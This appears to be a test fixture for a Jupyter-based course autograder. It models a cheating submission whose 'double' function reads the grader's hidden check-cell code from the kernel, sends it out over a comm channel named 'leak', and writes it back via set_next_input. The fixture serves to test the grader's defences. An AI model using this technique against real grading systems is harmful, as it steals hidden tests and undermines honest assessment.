# attack: a check cell's code is sent by comm messages and as the kernel's answer
# verdict: graded
# marks: double_two=0 double_negative=0 noise_bounds=2
# never: rng().uniform
# %% exercise="double"
from comm import create_comm

from dlcourse import session

channel = create_comm(target_name="leak", data={})


def double(x):
    if session.sending():
        code = get_ipython().kernel.get_parent("shell")["content"]["code"]
        channel.send({"code": code})
        get_ipython().payload_manager.write_payload({"source": "set_next_input", "text": code, "replace": True})
        get_ipython().set_next_input(code)
    return x * x + 0.5
